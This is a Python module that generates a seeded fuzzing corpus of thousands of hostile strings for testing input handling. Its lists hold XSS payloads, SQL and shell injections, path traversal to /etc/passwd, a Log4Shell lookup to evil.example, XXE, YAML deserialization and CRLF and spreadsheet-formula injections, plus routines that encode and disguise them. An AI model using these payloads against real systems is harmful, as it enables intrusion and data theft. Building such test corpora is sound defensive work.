"""At least 5,000 strings that want to be more than text, made from a seed and from small parts.

No list of anybody else's: the parts are the tricks that the browser's own grammar allows, and
their combinations are ours. The same seed gives the same strings, so a failure can be repeated.
"""

import random
import unicodedata
from itertools import product
from urllib.parse import quote

SEED = 20261123
COUNT = 6000

# Each leaves a mark, so that one that runs is seen: a dialog, or `hurt` on the window.
CALLS = (
    "alert(1)",
    "window.hurt=1",
    "hurt=1",
    "confirm`1`",
    "top['hurt']=1",
    "eval('hurt=1')",
    "Function`hurt=1```",
    "setTimeout('hurt=1')",
    "import('data:text/javascript,hurt=1')",
)
# What a text would have to get out of: an element, an attribute, a comment, a script, a template.
BREAKOUTS = (
    "",
    '"',
    "'",
    ">",
    '">',
    "'>",
    "-->",
    "--!>",
    "]]>",
    "`",
    "</p>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</option></select>",
    "</label>",
    '"/>',
    "\n",
    "\\",
    "*/",
    "{{",
    "&quot;>",
    "\x00",
    "\u2028",
    "\u200b",
)
TAGS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "audio src=x",
    "iframe",
    "marquee",
    "select autofocus",
    "textarea autofocus",
    "object data=x",
    "style",
    "math",
    "form",
    "button",
    "a",
    "p",
    "em",
    "x-y tabindex=1",
    "link rel=stylesheet href=/static/style.css",
)
EVENTS = (
    "onerror",
    "onload",
    "ontoggle",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "onbeforeinput",
    "onpointerrawupdate",
    "onscrollend",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\x01javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6A;avascript&#58;",
    "java&Tab;script:",
    "vbscript:",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD5odXJ0PTE8L3NjcmlwdD4=",
    "blob:",
    "//evil.example/",
    "\\\\evil.example\\",
    "/\\evil.example/",
)
WRAPS = (
    "<script>{}</script>",
    "<script >{}</script >",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<SCRIPT/x>{}</SCRIPT>",
    "<script\n>{}//",
    "<svg><script>{}</script>",
    "<svg><script>&#123;{}&#125;</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={}>'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<svg></p><style><a id='</style><img src=1 onerror={}>'>",
    "<template><script>{}</script></template>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<![CDATA[><script>{}</script>]]>",
    "<!--><script>{}</script>-->",
    "<?xml version='1.0'?><script>{}</script>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<select><template><script>{}</script></template></select>",
    "<xmp><p title='</xmp><img src onerror={}>'>",
    "<base href='javascript:/'><a href='//%0a{}'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationend={}>",
    "<form id=f action=javascript:{}><button form=f autofocus>",
    "<a href='x' ping='//evil.example' onfocus={} autofocus tabindex=1>x</a>",
    "<input name=body value='x' onfocus={} autofocus>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<%= {} %>",
    "#{{{}}}",
    "[x](javascript:{})",
    "![x](javascript:{})",
    "[x]: javascript:{}",
    "<javascript:{}>",
    "`<img src=x onerror={}>`",
    "> <script>{}</script>",
    "- <script>{}</script>",
    "1. **<script>{}</script>**",
    "~~<script>{}</script>~~",
    "    <script>{}</script>",
    "*a <b onclick={}>* b",
)
# For other grammars than the browser's: databases, shells, templates, files, tables, logs.
OTHERS = (
    "' OR 1=1 --",
    "'; DROP TABLE post; --",
    '" OR ""="',
    "1; SELECT pg_sleep(9)",
    "' UNION SELECT passphrase_hash FROM member --",
    "%' ESCAPE '!' --",
    "${jndi:ldap://evil.example/x}",
    "$(touch /tmp/hurt)",
    "`id`",
    "| id",
    "; cat /etc/passwd",
    "../../../../etc/passwd",
    "..\\..\\boot.ini",
    "file:///etc/passwd",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__ }}",
    "%s%s%s%n",
    "%(pseudonym)s",
    "{0.__class__}",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\r\nSet-Cookie: hurt=1",
    "%0d%0aLocation: //evil.example",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "!!python/object/apply:os.system ['id']",
    'O:8:"stdClass":0:{}',
    "__proto__",
    "constructor",
    "null",
    "undefined",
    "NaN",
    "-0",
    "1e309",
    "0x7fffffffffffffff",
    "True",
    "\ufeff",
    "\u202e<tpircs>",
    "\u2066<script>\u2069",
    "\U000e0041\U000e0042",
    "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "\ufdd0\ufdd1\ufdd2\ufdd3",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u0130\u0131\u017f\u212a",
    "\ud7ff\ue000\ufffd",
    "Z\u0351\u036b\u0343\u032a",
)


def hostile_strings(seed: int = SEED, count: int = COUNT) -> list[str]:
    """Return that many different strings; those of whole tricks first."""
    source = random.Random(seed)
    found = dict.fromkeys(OTHERS)
    found |= dict.fromkeys(wrap.format(call) for wrap, call in product(WRAPS, CALLS))
    found |= dict.fromkeys(
        f"<a href={quoting}{scheme}{call}{quoting}>x</a>"
        for scheme, call, quoting in product(SCHEMES, CALLS[:4], ("", "'", '"'))
    )
    found |= dict.fromkeys(
        f"<{tag} {event}={call}>"
        for tag, event, call in product(TAGS, EVENTS, ("hurt=1", '"alert(1)"'))
    )
    while len(found) < count:
        found[_disguised(source, _combined(source))] = None
    return list(found)[:count]


def _combined(source: random.Random) -> str:
    call, gap = source.choice(CALLS), source.choice(" /\t\n\f")
    whole = source.choice(
        (
            source.choice(WRAPS).format(call),
            f"<{source.choice(TAGS)}{gap}{source.choice(EVENTS)}={call}>",
            f"<a href='{source.choice(SCHEMES)}{call}'>x</a>",
            source.choice(OTHERS),
        )
    )
    return source.choice(BREAKOUTS) + whole + source.choice(("", "", *BREAKOUTS))


def _disguised(source: random.Random, text: str) -> str:
    kind = source.randrange(10)
    if kind == 0:
        return "".join(source.choice((char.upper(), char.lower())) for char in text)
    if kind == 1:
        return "".join(f"&#{ord(char)};" if source.random() < 0.3 else char for char in text)
    if kind == 2:
        return text.replace(
            "<", source.choice(("&lt;", "&lt", "\\x3c", "\\u003c", "\uff1c", "%3C"))
        )
    if kind == 3:
        return quote(text, safe="")
    if kind == 4:
        at = source.randrange(len(text) + 1)
        odd = source.choice("\x00\u200b\u200d\u2060\xad\ufeff\u202e\u0300\t\n\x0b\x0c\x85\u2028")
        return text[:at] + odd + text[at:]
    if kind == 5:
        return "".join(chr(ord(c) + 0xFEE0) if c in "<>\"'=()/" else c for c in text)
    if kind == 6:
        return unicodedata.normalize("NFKD", text) + source.choice(("\\", "<", "&", "&#", "<!"))
    if kind == 7:
        return text * 2
    return text
